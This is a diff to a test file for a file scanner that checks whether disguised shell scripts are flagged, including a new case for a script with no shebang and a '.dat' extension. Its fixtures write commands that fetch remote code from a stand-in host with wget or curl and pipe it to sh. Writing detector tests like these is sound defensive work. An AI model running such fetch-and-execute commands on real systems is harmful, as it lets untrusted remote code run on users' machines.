@@ -55,7 +55,11 @@ describe('disguises are refused', () => {
     const noExt = join(dir, 'run')
     writeFileSync(noExt, Buffer.from('#!/bin/sh\n\0\nwget -qO- https://x.example.io/i | sh\n', 'binary'))
     expect((await scanner.scanPath(noExt)).passed).toBe(false)
-    // A real binary (no shebang, no script extension) is still skipped, not flagged.
+    // A disguised script with no shebang and no script extension (`sh run.dat` runs it anyway).
+    const dat = join(dir, 'run.dat')
+    writeFileSync(dat, Buffer.from('# setup\n\0\ncurl -s https://x.example.io/i | sh\n', 'binary'))
+    expect((await scanner.scanPath(dat)).passed).toBe(false)
+    // A real binary (no shebang, no script extension, mostly non-text bytes) is still skipped, not flagged.
     const bin = join(dir, 'logo.png')
     writeFileSync(bin, Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d]))
     expect((await scanner.scanPath(bin)).passed).toBe(true)
